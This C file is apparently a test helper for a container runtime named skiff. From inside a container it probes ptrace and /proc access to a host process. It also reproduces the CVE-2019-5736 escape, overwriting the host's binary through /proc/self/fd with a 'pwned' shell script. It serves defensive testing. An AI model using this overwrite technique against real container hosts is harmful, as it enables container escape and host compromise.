/*
 * What a process inside a container tries against skiff (the integration
 * tests run it; it is never part of skiff). Each probe prints one line
 * "name errno" (0: the attack worked).
 *
 *   attack probe PID            ptrace, /proc/PID/{environ,mem,exe} of PID
 *   attack overwrite PID GO N   hold /proc/PID/exe open; once the file GO
 *                               exists, try N times to reopen it for writing
 *                               through /proc/self/fd (CVE-2019-5736)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static int try_open(const char *path, int flags)
{
    int fd = open(path, flags);
    if (fd < 0)
        return errno;
    close(fd);
    return 0;
}

static int probe(int pid)
{
    char path[64];
    long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
    printf("ptrace %d\n", r < 0 ? errno : 0);
    if (r == 0)
        ptrace(PTRACE_DETACH, pid, 0, 0);
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    printf("environ %d\n", try_open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    printf("mem %d\n", try_open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    printf("exe %d\n", try_open(path, O_RDONLY));
    return 0;
}

static int overwrite(int pid, const char *go, int tries)
{
    char path[64], self[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    printf("open-exe %d\n", fd < 0 ? errno : 0);
    fflush(stdout);
    if (fd < 0)
        return 0;
    while (access(go, F_OK) != 0)
        usleep(10000);
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int last = 0, wrote = 0;
    for (int i = 0; i < tries && !wrote; i++) {
        int w = open(self, O_WRONLY | O_TRUNC);
        if (w < 0) {
            last = errno;
            usleep(1000);
            continue;
        }
        static const char evil[] = "#!/bin/sh\necho pwned\n";
        wrote = write(w, evil, sizeof evil - 1) == (ssize_t)(sizeof evil - 1);
        close(w);
        last = 0;
    }
    printf("reopen-write %d\n", wrote ? 0 : last);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "probe") == 0)
        return probe(atoi(argv[2]));
    if (argc == 5 && strcmp(argv[1], "overwrite") == 0)
        return overwrite(atoi(argv[2]), argv[3], atoi(argv[4]));
    fprintf(stderr, "usage: attack probe PID | attack overwrite PID GO N\n");
    return 2;
}
